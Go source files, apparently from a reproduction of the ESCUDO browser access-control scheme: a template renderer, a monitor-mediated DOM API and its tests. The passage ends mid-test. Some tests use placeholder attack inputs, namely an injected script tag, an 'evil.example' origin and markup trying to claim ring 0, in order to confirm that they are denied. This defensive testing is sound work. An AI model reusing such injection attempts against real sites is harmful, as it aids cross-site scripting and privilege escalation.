		switch n.kind {
		case textNode:
			b.WriteString(n.text)
		case varNode:
			b.WriteString(html.EscapeText(toString(lookup(data, n.name))))
		case rawNode:
			b.WriteString(toString(lookup(data, n.name)))
		case ifNode:
			if truthy(lookup(data, n.name)) {
				renderNodes(b, n.body, data)
			}
		case eachNode:
			switch items := lookup(data, n.name).(type) {
			case []Data:
				for _, item := range items {
					scoped := make(Data, len(data)+len(item))
					for k, v := range data {
						scoped[k] = v
					}
					for k, v := range item {
						scoped[k] = v
					}
					renderNodes(b, n.body, scoped)
				}
			case []string:
				for _, item := range items {
					scoped := make(Data, len(data)+1)
					for k, v := range data {
						scoped[k] = v
					}
					scoped["."] = item
					renderNodes(b, n.body, scoped)
				}
			}
		}
	}
}

// lookup resolves a possibly dotted name.
func lookup(data Data, name string) any {
	if v, ok := data[name]; ok {
		return v
	}
	parts := strings.Split(name, ".")
	var cur any = data
	for _, p := range parts {
		m, ok := cur.(Data)
		if !ok {
			return nil
		}
		cur, ok = m[p]
		if !ok {
			return nil
		}
	}
	return cur
}

func toString(v any) string {
	switch x := v.(type) {
	case nil:
		return ""
	case string:
		return x
	case bool:
		if x {
			return "true"
		}
		return "false"
	case int:
		return fmt.Sprintf("%d", x)
	default:
		return fmt.Sprintf("%v", x)
	}
}

func truthy(v any) bool {
	switch x := v.(type) {
	case nil:
		return false
	case bool:
		return x
	case string:
		return x != ""
	case int:
		return x != 0
	case []Data:
		return len(x) > 0
	case []string:
		return len(x) > 0
	default:
		return true
	}
}

// ACBuilder emits AC tags with fresh nonces — the server half of the
// §5 markup-randomization defense. One builder per response keeps the
// nonces unpredictable across responses (use a fresh CryptoSource
// stream) while tests can inject a SeqSource for determinism.
type ACBuilder struct {
	// Nonces supplies the randomization nonces.
	Nonces nonce.Source
}

// NewACBuilder returns a builder drawing from src (CryptoSource when
// nil).
func NewACBuilder(src nonce.Source) *ACBuilder {
	if src == nil {
		src = nonce.CryptoSource{}
	}
	return &ACBuilder{Nonces: src}
}

// Wrap encloses inner markup in an AC tag with the given label and a
// fresh nonce, plus any extra attributes (e.g. `id=post-3`).
func (b *ACBuilder) Wrap(ring core.Ring, acl core.ACL, extraAttrs, inner string) string {
	open, closeTag := b.Pair(ring, acl, extraAttrs)
	return open + inner + closeTag
}

// Pair returns matching open and close AC tags sharing one fresh
// nonce, for templates that need to interleave them with other
// content.
func (b *ACBuilder) Pair(ring core.Ring, acl core.ACL, extraAttrs string) (open, closeTag string) {
	n := b.Nonces.Next()
	var sb strings.Builder
	sb.WriteString("<div ")
	sb.WriteString(core.FormatACAttrs(ring, acl, n))
	if extraAttrs != "" {
		sb.WriteString(" ")
		sb.WriteString(extraAttrs)
	}
	sb.WriteString(">")
	return sb.String(), fmt.Sprintf("</div nonce=%s>", n)
}
