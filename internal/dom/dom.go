// Package dom wraps the parse tree in a document abstraction and
// provides the mediated DOM API: every read, write, and implicit use
// of a DOM element flows through a core.Monitor, which is where the
// ESCUDO Reference Monitor interposes (paper §6.1: "the places to
// embed the checks is specific to the object type").
//
// DOM elements act as both principals and objects (Table 1); the API
// object carries the calling principal's security context, so the same
// document can be manipulated concurrently by principals of different
// rings with different outcomes.
package dom

import (
	"errors"
	"fmt"
	"strings"

	"repro/internal/core"
	"repro/internal/html"
	"repro/internal/origin"
)

// Document is one loaded web page's DOM plus its security metadata.
type Document struct {
	// Origin is the page's web origin.
	Origin origin.Origin
	// Root is the document node of the parse tree.
	Root *html.Node
	// MaxRing is the page's least privileged ring.
	MaxRing core.Ring
	// Escudo records whether the page was parsed with ESCUDO
	// labeling (false for legacy mode).
	Escudo bool
}

// NewDocument parses markup into a labeled document. opts selects
// ESCUDO or legacy labeling; the document remembers both the origin
// and the ring bound for later fragment parses.
func NewDocument(o origin.Origin, markup string, opts html.Options) *Document {
	return &Document{
		Origin:  o,
		Root:    html.Parse(markup, opts),
		MaxRing: opts.MaxRing,
		Escudo:  opts.Escudo,
	}
}

// NodeContext builds the object security context of a node within the
// document.
func (d *Document) NodeContext(n *html.Node) core.Context {
	return core.Object(d.Origin, n.Ring, n.ACL, nodeLabel(n))
}

// nodeLabel renders a human-readable node identifier for traces.
func nodeLabel(n *html.Node) string {
	switch n.Type {
	case html.DocumentNode:
		return "#document"
	case html.TextNode:
		return "#text"
	case html.CommentNode:
		return "#comment"
	case html.DoctypeNode:
		return "#doctype"
	default:
		if id, ok := n.Attr("id"); ok {
			return n.Tag + "#" + id
		}
		return n.Tag
	}
}

// Find returns the first node satisfying pred in document order,
// without any access check. It is the browser-internal (ring 0)
// lookup primitive.
func (d *Document) Find(pred func(*html.Node) bool) *html.Node {
	var found *html.Node
	html.Walk(d.Root, func(n *html.Node) bool {
		if pred(n) {
			found = n
			return false
		}
		return true
	})
	return found
}

// ByID returns the element with the given id, unchecked.
func (d *Document) ByID(id string) *html.Node {
	return d.Find(func(n *html.Node) bool {
		v, ok := n.Attr("id")
		return ok && v == id
	})
}

// ByTag returns all elements with the given tag, unchecked.
func (d *Document) ByTag(tag string) []*html.Node {
	var out []*html.Node
	html.Walk(d.Root, func(n *html.Node) bool {
		if n.Type == html.ElementNode && n.Tag == tag {
			out = append(out, n)
		}
		return true
	})
	return out
}

// DeniedError is returned by mediated API calls whose access the
// monitor refused; it carries the full decision for auditability.
type DeniedError struct {
	Decision core.Decision
}

// Error implements error.
func (e *DeniedError) Error() string {
	return fmt.Sprintf("dom: access denied: %s", e.Decision)
}

// ErrConfigAttribute is returned when a script touches an ESCUDO
// configuration attribute; §5: configuration "is not exposed to
// JavaScript programs for modification. ... such attempts to modify
// the attributes cannot succeed."
var ErrConfigAttribute = errors.New("dom: escudo configuration attributes are not exposed")

// ErrDetached is returned when an operation needs an attached node but
// got a detached one.
var ErrDetached = errors.New("dom: node is not attached to the document")

// API is the DOM API as seen by one principal: the paper's "Native
// Code API" object binding. All methods authorize against the
// document's monitor before touching the tree.
type API struct {
	doc       *Document
	principal core.Context
	monitor   core.Monitor
}

// NewAPI binds the DOM API to a principal. The monitor decides every
// access; principal is the security context of the JavaScript program
// (or other principal) driving the API.
func NewAPI(doc *Document, principal core.Context, monitor core.Monitor) *API {
	return &API{doc: doc, principal: principal, monitor: monitor}
}

// Principal returns the bound principal context.
func (a *API) Principal() core.Context { return a.principal }

// Document returns the underlying document.
func (a *API) Document() *Document { return a.doc }

// authorize runs one access decision and converts a denial to an
// error.
func (a *API) authorize(op core.Op, obj core.Context) error {
	d := a.monitor.Authorize(a.principal, op, obj)
	if !d.Allowed {
		return &DeniedError{Decision: d}
	}
	return nil
}

// authorizeSubtree batch-authorizes op on every node of the region
// rooted at n, returning the nodes in document order with their
// decisions. The nodes collapse into (origin, ring, ACL) equivalence
// classes so a region of m nodes costs k ≤ m distinct decision
// computations, but every node is still individually audited — §4.2
// complete mediation is unchanged, only the decision computation is
// deduplicated.
func (a *API) authorizeSubtree(n *html.Node, op core.Op) ([]*html.Node, []core.Decision) {
	return a.authorizeSubtreeFiltered(n, op, nil)
}

// authorizeSubtreeFiltered is authorizeSubtree restricted to nodes
// passing keep (nil keeps every node). Skipped nodes are not
// authorized, not audited, and absent from the result.
func (a *API) authorizeSubtreeFiltered(n *html.Node, op core.Op, keep func(*html.Node) bool) ([]*html.Node, []core.Decision) {
	count := html.CountNodes(n)
	nodes := make([]*html.Node, 0, count)
	ctxs := make([]core.Context, 0, count)
	html.Walk(n, func(x *html.Node) bool {
		if keep == nil || keep(x) {
			nodes = append(nodes, x)
			ctxs = append(ctxs, a.doc.NodeContext(x))
		}
		return true
	})
	return nodes, core.AuthorizeBatch(a.monitor, a.principal, op, ctxs)
}

// AuthorizeRenderRegion mediates a render/layout traversal of the
// region rooted at n: every element (and the document root) is
// batch-authorized for reading. Text and comment nodes render under
// their element's authority — they share its (origin, ring, ACL)
// equivalence class by construction, so element-level mediation is
// exactly as strong while the audit stream stays proportional to the
// box tree. The returned set holds the denied elements (each denial
// hides the element's whole subtree); a denied region root returns
// the root's DeniedError.
func (a *API) AuthorizeRenderRegion(n *html.Node) (denied map[*html.Node]bool, err error) {
	nodes, decisions := a.authorizeSubtreeFiltered(n, core.OpRead, func(x *html.Node) bool {
		return x.Type == html.ElementNode || x.Type == html.DocumentNode
	})
	return deniedSet(n, nodes, decisions)
}

// deniedSet converts a region's (nodes, decisions) into the denied
// descendants, or the root's DeniedError if the root itself was
// denied.
func deniedSet(root *html.Node, nodes []*html.Node, decisions []core.Decision) (map[*html.Node]bool, error) {
	var denied map[*html.Node]bool
	for i, d := range decisions {
		if d.Allowed {
			continue
		}
		if nodes[i] == root {
			return nil, &DeniedError{Decision: d}
		}
		if denied == nil {
			denied = make(map[*html.Node]bool)
		}
		denied[nodes[i]] = true
	}
	return denied, nil
}

// AuthorizeSubtree batch-authorizes op over the region rooted at n
// (see authorizeSubtree: one decision computation per equivalence
// class, every node audited).
//
// If the region's root is denied, the root's DeniedError is returned.
// Otherwise denied holds the denied descendants (nil when the whole
// region is accessible); readers elide those subtrees, the way a real
// ESCUDO browser would hide inner-ring content.
func (a *API) AuthorizeSubtree(n *html.Node, op core.Op) (denied map[*html.Node]bool, err error) {
	nodes, decisions := a.authorizeSubtree(n, op)
	return deniedSet(n, nodes, decisions)
}

// authorizeRegionWrite authorizes a write over the whole region rooted
// at n — the root and every descendant the write destroys or replaces.
// Unlike reads, a region write cannot elide: any denial fails the
// whole operation with that node's decision.
func (a *API) authorizeRegionWrite(n *html.Node) error {
	_, decisions := a.authorizeSubtree(n, core.OpWrite)
	for _, d := range decisions {
		if !d.Allowed {
			return &DeniedError{Decision: d}
		}
	}
	return nil
}

// includeFunc converts a denied set into the include predicate the
// filtered serializers take (nil when nothing is denied, which selects
// the unfiltered fast path).
func includeFunc(denied map[*html.Node]bool) func(*html.Node) bool {
	if len(denied) == 0 {
		return nil
	}
	return func(n *html.Node) bool { return !denied[n] }
}

// GetElementByID returns the element with the given id if the
// principal may read it.
func (a *API) GetElementByID(id string) (*html.Node, error) {
	n := a.doc.ByID(id)
	if n == nil {
		return nil, nil
	}
	if err := a.authorize(core.OpRead, a.doc.NodeContext(n)); err != nil {
		return nil, err
	}
	return n, nil
}

// GetElementsByTagName returns the elements with the given tag that
// the principal may read. Unreadable elements are silently omitted,
// the way a real ESCUDO browser would hide inner-ring content. The
// candidates are authorized as one batch: elements sharing a (ring,
// ACL) class cost a single decision computation, each still audited.
func (a *API) GetElementsByTagName(tag string) []*html.Node {
	nodes := a.doc.ByTag(tag)
	if len(nodes) == 0 {
		return nil
	}
	ctxs := make([]core.Context, len(nodes))
	for i, n := range nodes {
		ctxs[i] = a.doc.NodeContext(n)
	}
	var out []*html.Node
	for i, d := range core.AuthorizeBatch(a.monitor, a.principal, core.OpRead, ctxs) {
		if d.Allowed {
			out = append(out, nodes[i])
		}
	}
	return out
}

// InnerText returns the region's text if the principal may read the
// node. The whole region is batch-authorized; text under denied
// descendants is elided.
func (a *API) InnerText(n *html.Node) (string, error) {
	denied, err := a.AuthorizeSubtree(n, core.OpRead)
	if err != nil {
		return "", err
	}
	return html.InnerTextFiltered(n, includeFunc(denied)), nil
}

// InnerHTML serializes the node's children if the principal may read
// the node. Reading a region is reading every node in it: the subtree
// is batch-authorized (one decision computation per equivalence
// class, every node audited), and subtrees the principal may not read
// are elided from the serialization.
func (a *API) InnerHTML(n *html.Node) (string, error) {
	denied, err := a.AuthorizeSubtree(n, core.OpRead)
	if err != nil {
		return "", err
	}
	include := includeFunc(denied)
	var b strings.Builder
	for _, k := range n.Kids {
		b.WriteString(html.RenderFiltered(k, include))
	}
	return b.String(), nil
}

// SetInnerHTML replaces the node's children with freshly parsed
// markup. The write is authorized over the whole region it replaces —
// the node and every descendant destroyed by the replacement, batched
// by equivalence class — and the fragment parse applies the scoping
// rule with the node's ring as the bound, so "a malicious principal
// cannot create a new principal that has higher privileges than
// itself" (§5).
func (a *API) SetInnerHTML(n *html.Node, markup string) error {
	if err := a.authorizeRegionWrite(n); err != nil {
		return err
	}
	base := n.Ring.Outermost(a.principal.Ring)
	kids := html.ParseFragment(markup, html.Options{Escudo: a.doc.Escudo, MaxRing: a.doc.MaxRing}, base, n.ACL)
	n.Kids = nil
	for _, k := range kids {
		n.AppendChild(k)
	}
	return nil
}

// AppendHTML parses markup and appends the resulting nodes as
// children of n (document.write's post-parse semantics). The write is
// authorized against n and the fragment is bounded by both n's ring
// and the principal's ring under the scoping rule.
func (a *API) AppendHTML(n *html.Node, markup string) error {
	if err := a.authorize(core.OpWrite, a.doc.NodeContext(n)); err != nil {
		return err
	}
	base := n.Ring.Outermost(a.principal.Ring)
	kids := html.ParseFragment(markup, html.Options{Escudo: a.doc.Escudo, MaxRing: a.doc.MaxRing}, base, n.ACL)
	for _, k := range kids {
		n.AppendChild(k)
	}
	return nil
}

// CreateElement returns a detached element labeled at the principal's
// own ring — a principal creates content at its own privilege, never
// above it.
func (a *API) CreateElement(tag string) *html.Node {
	return &html.Node{
		Type: html.ElementNode,
		Tag:  strings.ToLower(tag),
		Ring: a.principal.Ring,
		ACL:  core.PermissiveACL(a.doc.MaxRing),
	}
}

// CreateTextNode returns a detached text node at the principal's ring.
func (a *API) CreateTextNode(text string) *html.Node {
	return &html.Node{
		Type: html.TextNode,
		Data: text,
		Ring: a.principal.Ring,
		ACL:  core.PermissiveACL(a.doc.MaxRing),
	}
}

// AppendChild attaches child under parent. The principal needs write
// on the parent; the scoping rule then clamps the whole inserted
// subtree to rings no more privileged than the parent's.
func (a *API) AppendChild(parent, child *html.Node) error {
	if err := a.authorize(core.OpWrite, a.doc.NodeContext(parent)); err != nil {
		return err
	}
	clampSubtree(child, parent.Ring.Outermost(a.principal.Ring))
	parent.AppendChild(child)
	return nil
}

// RemoveChild detaches child from parent. The principal needs write
// on the parent (whose child list changes) and, like the other
// region-destroying writes, on every node of the removed subtree —
// a principal cannot destroy a region it could not rewrite.
func (a *API) RemoveChild(parent, child *html.Node) error {
	if err := a.authorize(core.OpWrite, a.doc.NodeContext(parent)); err != nil {
		return err
	}
	if err := a.authorizeRegionWrite(child); err != nil {
		return err
	}
	for i, k := range parent.Kids {
		if k == child {
			parent.Kids = append(parent.Kids[:i], parent.Kids[i+1:]...)
			child.Parent = nil
			return nil
		}
	}
	return ErrDetached
}

// GetAttribute reads an attribute. ESCUDO configuration attributes
// are invisible: they were stripped at parse time and remain
// unobservable here regardless of privileges (§5).
func (a *API) GetAttribute(n *html.Node, name string) (string, error) {
	name = strings.ToLower(name)
	if a.doc.Escudo && core.IsConfigAttr(name) {
		return "", nil
	}
	if err := a.authorize(core.OpRead, a.doc.NodeContext(n)); err != nil {
		return "", err
	}
	v, _ := n.Attr(name)
	return v, nil
}

// SetAttribute writes an attribute; configuration attributes are
// rejected outright, the §5(1) defense against privilege remapping via
// setAttribute.
func (a *API) SetAttribute(n *html.Node, name, value string) error {
	name = strings.ToLower(name)
	if a.doc.Escudo && core.IsConfigAttr(name) {
		return ErrConfigAttribute
	}
	if err := a.authorize(core.OpWrite, a.doc.NodeContext(n)); err != nil {
		return err
	}
	for i, attr := range n.Attrs {
		if attr.Name == name {
			n.Attrs[i].Value = value
			return nil
		}
	}
	n.Attrs = append(n.Attrs, html.Attr{Name: name, Value: value})
	return nil
}

// SetText replaces the node's children with a single text node. Like
// SetInnerHTML, the write covers the whole region it destroys.
func (a *API) SetText(n *html.Node, text string) error {
	if err := a.authorizeRegionWrite(n); err != nil {
		return err
	}
	n.Kids = nil
	n.AppendChild(&html.Node{Type: html.TextNode, Data: text, Ring: n.Ring, ACL: n.ACL})
	return nil
}

// clampSubtree applies the scoping rule to an inserted subtree: every
// node's ring becomes at least bound, propagating the bound downward.
func clampSubtree(n *html.Node, bound core.Ring) {
	n.Ring = n.Ring.Outermost(bound)
	for _, k := range n.Kids {
		clampSubtree(k, n.Ring)
	}
}

// CheckScopingInvariant verifies the §5 scoping rule over the whole
// document: no node inside an AC scope is more privileged than the
// scope. (Unlabeled top-level regions carry the fail-safe
// least-privileged *label* without bounding server-authored AC tags,
// so the check follows AC-scope nesting, not raw parent links.) It
// returns the first violating node, or nil.
func (d *Document) CheckScopingInvariant() *html.Node {
	var bad *html.Node
	var walk func(n *html.Node, bound core.Ring)
	walk = func(n *html.Node, bound core.Ring) {
		if bad != nil {
			return
		}
		if n.Ring < bound {
			bad = n
			return
		}
		next := bound
		if n.IsACTag {
			next = n.Ring
		}
		for _, k := range n.Kids {
			walk(k, next)
		}
	}
	walk(d.Root, core.RingKernel)
	return bad
}
