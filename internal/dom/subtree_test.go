package dom

import (
	"errors"
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/html"
)

// regionDoc has a readable container whose subtree mixes ACLs: the
// #secret child tightens its read/write ceiling to ring 1, so a ring-2
// principal may read the container but not that child.
func regionDoc() *Document {
	markup := `<html><body>` +
		`<div ring=2 r=2 w=2 x=2 id=box>visible ` +
		`<div ring=2 r=1 w=1 x=1 id=secret>classified</div>` +
		`<p id=tail>tail</p>` +
		`</div></body></html>`
	return NewDocument(site, markup, html.Options{
		Escudo: true, MaxRing: 3, BaseRing: 0, BaseACL: core.PermissiveACL(3),
	})
}

func TestInnerHTMLElidesDeniedSubtrees(t *testing.T) {
	d := regionDoc()
	box := d.ByID("box")

	// Ring 2 reads the container; the tighter-ACL child is elided.
	s, err := api(d, 2).InnerHTML(box)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(s, "visible") || !strings.Contains(s, "tail") {
		t.Errorf("readable content missing: %q", s)
	}
	if strings.Contains(s, "classified") || strings.Contains(s, "secret") {
		t.Errorf("denied subtree leaked: %q", s)
	}

	// Ring 1 sees the whole region.
	s, err = api(d, 1).InnerHTML(box)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(s, "classified") {
		t.Errorf("ring 1 should read the secret child: %q", s)
	}
}

func TestInnerTextElidesDeniedSubtrees(t *testing.T) {
	d := regionDoc()
	box := d.ByID("box")
	s, err := api(d, 2).InnerText(box)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(s, "visible") || strings.Contains(s, "classified") {
		t.Errorf("InnerText = %q", s)
	}
}

func TestRegionWriteDeniedByDescendant(t *testing.T) {
	d := regionDoc()
	box := d.ByID("box")

	// Ring 2 may write the container itself but not the w=1 child the
	// replacement would destroy: the region write must fail whole.
	err := api(d, 2).SetText(box, "wiped")
	var denied *DeniedError
	if !errors.As(err, &denied) {
		t.Fatalf("err = %v, want DeniedError", err)
	}
	if denied.Decision.Rule != core.RuleACL {
		t.Errorf("rule = %v, want acl-rule", denied.Decision.Rule)
	}
	if html.InnerText(d.ByID("secret")) != "classified" {
		t.Error("denied region write mutated the tree")
	}

	// Ring 1 holds write on every node of the region.
	if err := api(d, 1).SetInnerHTML(box, "<p>replaced</p>"); err != nil {
		t.Fatalf("ring 1 region write: %v", err)
	}
	if got := html.InnerText(box); !strings.Contains(got, "replaced") {
		t.Errorf("box = %q", got)
	}
}

func TestRemoveChildDeniedByRemovedSubtree(t *testing.T) {
	// Removing a child destroys its whole subtree: a principal that
	// may write the parent but not a node inside the removed region
	// must be refused, consistent with SetInnerHTML/SetText.
	d := regionDoc()
	box := d.ByID("box")
	secret := d.ByID("secret")
	err := api(d, 2).RemoveChild(box, secret)
	var denied *DeniedError
	if !errors.As(err, &denied) {
		t.Fatalf("err = %v, want DeniedError", err)
	}
	if d.ByID("secret") == nil {
		t.Error("denied removal detached the subtree")
	}
	// Ring 1 holds write on the whole removed region.
	if err := api(d, 1).RemoveChild(box, secret); err != nil {
		t.Fatalf("ring 1 removal: %v", err)
	}
	if d.ByID("secret") != nil {
		t.Error("allowed removal left the subtree attached")
	}
}

func TestAuthorizeSubtreeAuditsEveryNode(t *testing.T) {
	d := regionDoc()
	log := &core.AuditLog{}
	a := NewAPI(d, core.Principal(site, 2, "script"), &core.ERM{Trace: log.Record})
	box := d.ByID("box")
	want := html.CountNodes(box)
	if _, err := a.AuthorizeSubtree(box, core.OpRead); err != nil {
		t.Fatal(err)
	}
	if log.Len() != want {
		t.Errorf("audit records = %d, want %d (one per node in the region)", log.Len(), want)
	}
}

func TestAuthorizeSubtreeRootDenied(t *testing.T) {
	d := regionDoc()
	_, err := api(d, 3).AuthorizeSubtree(d.ByID("box"), core.OpRead)
	var denied *DeniedError
	if !errors.As(err, &denied) {
		t.Fatalf("err = %v, want DeniedError on the root", err)
	}
	if denied.Decision.Object.Label != "div#box" {
		t.Errorf("denial object = %q, want div#box", denied.Decision.Object.Label)
	}
}

func TestSubtreeBatchDeduplicates(t *testing.T) {
	// A region of many same-class nodes must cost far fewer distinct
	// decision computations than nodes.
	var b strings.Builder
	b.WriteString(`<html><body><div ring=2 r=2 w=2 x=2 id=feed>`)
	for i := 0; i < 50; i++ {
		b.WriteString(`<p>item</p>`)
	}
	b.WriteString(`</div></body></html>`)
	d := NewDocument(site, b.String(), html.Options{
		Escudo: true, MaxRing: 3, BaseRing: 0, BaseACL: core.PermissiveACL(3),
	})
	before := core.ReadBatchStats()
	if _, err := api(d, 1).InnerHTML(d.ByID("feed")); err != nil {
		t.Fatal(err)
	}
	delta := core.ReadBatchStats().Sub(before)
	if delta.Nodes < 100 {
		t.Fatalf("nodes = %d, want >= 100 (50 <p> + 50 text + root)", delta.Nodes)
	}
	if delta.Distinct >= delta.Nodes/10 {
		t.Errorf("distinct = %d of %d nodes: expected heavy dedup", delta.Distinct, delta.Nodes)
	}
}
