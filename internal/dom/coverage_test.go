package dom

import (
	"errors"
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/html"
)

// Edge-path coverage for the mediated DOM API.

func TestInnerTextDenied(t *testing.T) {
	d := blogDoc()
	if _, err := api(d, 3).InnerText(d.ByID("post")); err == nil {
		t.Error("ring 3 must not read the post text")
	}
}

func TestGetAttributeDenied(t *testing.T) {
	d := blogDoc()
	if _, err := api(d, 3).GetAttribute(d.ByID("post"), "id"); err == nil {
		t.Error("ring 3 must not read the post's attributes")
	}
}

func TestSetTextDenied(t *testing.T) {
	d := blogDoc()
	if err := api(d, 3).SetText(d.ByID("app"), "x"); err == nil {
		t.Error("ring 3 must not write app content")
	}
}

func TestAppendChildDeniedLeavesTreeIntact(t *testing.T) {
	d := blogDoc()
	a := api(d, 3)
	el := a.CreateElement("span")
	post := d.ByID("post")
	before := len(post.Kids)
	if err := a.AppendChild(post, el); err == nil {
		t.Error("ring 3 append to post must fail")
	}
	if len(post.Kids) != before {
		t.Error("denied append mutated the tree")
	}
}

func TestAppendHTMLDenied(t *testing.T) {
	d := blogDoc()
	if err := api(d, 3).AppendHTML(d.ByID("post"), "<b>x</b>"); err == nil {
		t.Error("ring 3 AppendHTML to post must fail")
	}
}

func TestAppendHTMLScoping(t *testing.T) {
	d := blogDoc()
	// Ring 0 writes into the ring-3 comment: content is still bound
	// by the host node's ring.
	if err := api(d, 0).AppendHTML(d.ByID("comment1"), `<div ring=0 id=appended>x</div>`); err != nil {
		t.Fatal(err)
	}
	if n := d.ByID("appended"); n == nil || n.Ring != 3 {
		t.Errorf("appended = %+v, want clamped ring 3", n)
	}
}

func TestDeniedErrorMessage(t *testing.T) {
	d := blogDoc()
	_, err := api(d, 3).InnerHTML(d.ByID("post"))
	var denied *DeniedError
	if !errors.As(err, &denied) {
		t.Fatal(err)
	}
	msg := denied.Error()
	for _, want := range []string{"access denied", "ring-rule", "post"} {
		if !strings.Contains(msg, want) {
			t.Errorf("message %q missing %q", msg, want)
		}
	}
}

func TestNodeLabelVariants(t *testing.T) {
	d := blogDoc()
	text := &html.Node{Type: html.TextNode}
	comment := &html.Node{Type: html.CommentNode}
	doctype := &html.Node{Type: html.DoctypeNode}
	noID := &html.Node{Type: html.ElementNode, Tag: "em"}
	for node, want := range map[*html.Node]string{
		text: "#text", comment: "#comment", doctype: "#doctype", noID: "em",
	} {
		if got := d.NodeContext(node).Label; got != want {
			t.Errorf("label = %q, want %q", got, want)
		}
	}
}

func TestFindNothing(t *testing.T) {
	d := blogDoc()
	if n := d.Find(func(*html.Node) bool { return false }); n != nil {
		t.Error("Find with false predicate must return nil")
	}
	if got := d.ByTag("video"); len(got) != 0 {
		t.Errorf("ByTag(video) = %v", got)
	}
}

func TestAPIAccessors(t *testing.T) {
	d := blogDoc()
	a := api(d, 1)
	if a.Document() != d {
		t.Error("Document accessor")
	}
	if a.Principal().Ring != 1 {
		t.Error("Principal accessor")
	}
}

func TestCreateTextNodeRing(t *testing.T) {
	d := blogDoc()
	n := api(d, 2).CreateTextNode("hi")
	if n.Type != html.TextNode || n.Ring != 2 || n.Data != "hi" {
		t.Errorf("n = %+v", n)
	}
}

func TestGetElementsByTagNameEmptyACL(t *testing.T) {
	// Document with fail-safe zero ACLs: only ring 0 reads.
	d := NewDocument(site, `<div ring=2 id=a>x</div>`, html.Options{
		Escudo: true, MaxRing: 3, BaseRing: 3, BaseACL: core.ACL{},
	})
	if got := api(d, 2).GetElementsByTagName("div"); len(got) != 0 {
		t.Errorf("zero-ACL div visible to ring 2: %v", got)
	}
	if got := api(d, 0).GetElementsByTagName("div"); len(got) != 1 {
		t.Errorf("ring 0 must see it: %v", got)
	}
}
