package dom

import (
	"errors"
	"strings"
	"testing"
	"testing/quick"

	"repro/internal/core"
	"repro/internal/html"
	"repro/internal/origin"
)

var site = origin.MustParse("http://blog.example")

// blogDoc builds the paper's blog page shape (Figure 3): ring-1 app
// content, a ring-2 post whose ACL admits rings 0-1, and ring-3 user
// comments whose ACL admits rings 0-2.
func blogDoc() *Document {
	markup := `<html><body>` +
		`<div ring=1 r=1 w=1 x=1 id=app><script id=appjs>app()</script></div>` +
		`<div ring=2 r=1 w=0 x=0 id=post><p>Original post</p></div>` +
		`<div ring=3 r=2 w=2 x=2 id=comment1>Nice post!</div>` +
		`<div ring=3 r=2 w=2 x=2 id=comment2><script id=evil>attack()</script></div>` +
		`</body></html>`
	return NewDocument(site, markup, html.Options{
		Escudo: true, MaxRing: 3, BaseRing: 0, BaseACL: core.PermissiveACL(3),
	})
}

func api(d *Document, ring core.Ring) *API {
	return NewAPI(d, core.Principal(site, ring, "test-principal"), &core.ERM{})
}

func TestGetElementByIDMediated(t *testing.T) {
	d := blogDoc()
	// A ring-1 principal reads the post (read ceiling 1).
	if n, err := api(d, 1).GetElementByID("post"); err != nil || n == nil {
		t.Errorf("ring 1 read post: n=%v err=%v", n, err)
	}
	// A ring-3 principal cannot read the post (ring rule fails).
	_, err := api(d, 3).GetElementByID("post")
	var denied *DeniedError
	if !errors.As(err, &denied) {
		t.Fatalf("ring 3 read post: err = %v, want DeniedError", err)
	}
	if denied.Decision.Rule != core.RuleRing {
		t.Errorf("rule = %v, want ring-rule", denied.Decision.Rule)
	}
	// Missing elements are not errors.
	if n, err := api(d, 0).GetElementByID("nope"); n != nil || err != nil {
		t.Errorf("missing id: %v, %v", n, err)
	}
}

func TestACLDeniesWithinRing(t *testing.T) {
	// Comments are ring 3 with write ceiling 2: one comment's script
	// (ring 3) cannot modify another comment — the isolation phpBB
	// wants between user messages (Table 3).
	d := blogDoc()
	err := api(d, 3).SetText(d.ByID("comment1"), "defaced")
	var denied *DeniedError
	if !errors.As(err, &denied) || denied.Decision.Rule != core.RuleACL {
		t.Fatalf("err = %v, want ACL denial", err)
	}
	// A ring-2 principal may.
	if err := api(d, 2).SetText(d.ByID("comment1"), "moderated"); err != nil {
		t.Errorf("ring 2 write comment: %v", err)
	}
	if got := html.InnerText(d.ByID("comment1")); got != "moderated" {
		t.Errorf("text = %q", got)
	}
}

func TestCrossOriginDenied(t *testing.T) {
	d := blogDoc()
	other := core.Principal(origin.MustParse("http://evil.example"), 0, "evil")
	a := NewAPI(d, other, &core.ERM{})
	_, err := a.GetElementByID("comment1")
	var denied *DeniedError
	if !errors.As(err, &denied) || denied.Decision.Rule != core.RuleOrigin {
		t.Fatalf("err = %v, want origin denial", err)
	}
}

func TestConfigAttributesInvisible(t *testing.T) {
	d := blogDoc()
	a := api(d, 0) // even ring 0 cannot see configuration
	post := d.ByID("post")
	for _, name := range []string{"ring", "r", "w", "x", "nonce"} {
		v, err := a.GetAttribute(post, name)
		if err != nil || v != "" {
			t.Errorf("GetAttribute(%q) = %q, %v; want invisible", name, v, err)
		}
	}
	if v, err := a.GetAttribute(post, "id"); err != nil || v != "post" {
		t.Errorf("ordinary attribute id = %q, %v", v, err)
	}
}

func TestSetAttributeConfigRejected(t *testing.T) {
	// §5(1): remapping an AC tag to a higher privileged ring via
	// setAttribute cannot succeed.
	d := blogDoc()
	comment := d.ByID("comment2")
	for _, ring := range []core.Ring{0, 3} {
		err := api(d, ring).SetAttribute(comment, "ring", "0")
		if !errors.Is(err, ErrConfigAttribute) {
			t.Errorf("ring %d SetAttribute(ring) err = %v, want ErrConfigAttribute", ring, err)
		}
	}
	if comment.Ring != 3 {
		t.Errorf("comment ring changed to %d", comment.Ring)
	}
}

func TestSetAttributeOrdinary(t *testing.T) {
	d := blogDoc()
	c := d.ByID("comment1")
	if err := api(d, 2).SetAttribute(c, "class", "flagged"); err != nil {
		t.Fatal(err)
	}
	if v, _ := c.Attr("class"); v != "flagged" {
		t.Errorf("class = %q", v)
	}
	// Update in place, not duplicate.
	if err := api(d, 2).SetAttribute(c, "class", "ok"); err != nil {
		t.Fatal(err)
	}
	count := 0
	for _, at := range c.Attrs {
		if at.Name == "class" {
			count++
		}
	}
	if count != 1 {
		t.Errorf("class attrs = %d, want 1", count)
	}
}

func TestSetInnerHTMLScoping(t *testing.T) {
	// §5(2): a principal writing markup cannot mint a more
	// privileged principal. The fragment claims ring=0; it must be
	// clamped to the host node's ring.
	d := blogDoc()
	c2 := d.ByID("comment2")
	err := api(d, 2).SetInnerHTML(c2, `<div ring=0 id=minted><script id=sneak>x()</script></div>`)
